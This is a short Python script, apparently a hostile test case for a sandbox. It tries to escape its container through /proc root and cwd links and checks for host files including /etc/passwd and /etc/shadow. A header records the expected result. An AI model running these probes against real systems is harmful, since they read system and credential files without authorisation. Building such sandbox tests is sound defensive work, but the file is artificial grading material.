# /// hostile
# attack = "The program reads the machine's files by way of other processes."
# reason = "exited"
# contains = "['bin', 'box', 'dev']"
# ///
if __file__ != "/box/main.py": raise SystemExit("runs in the sandbox only")
import os

for process in ("1", "self", "thread-self"):
    for way in ("root", "cwd", "root/..", "cwd/../.."):
        for name in ("etc/passwd", "root", "home", "var/lib", "proc/1/root/etc/shadow"):
            if os.path.exists(f"/proc/{process}/{way}/{name}"):
                print("ESCAPED", process, way, name)
os.chdir("/proc/self/cwd")
for _ in range(100):
    os.chdir("..")
print(sorted(os.listdir("."))[:3])
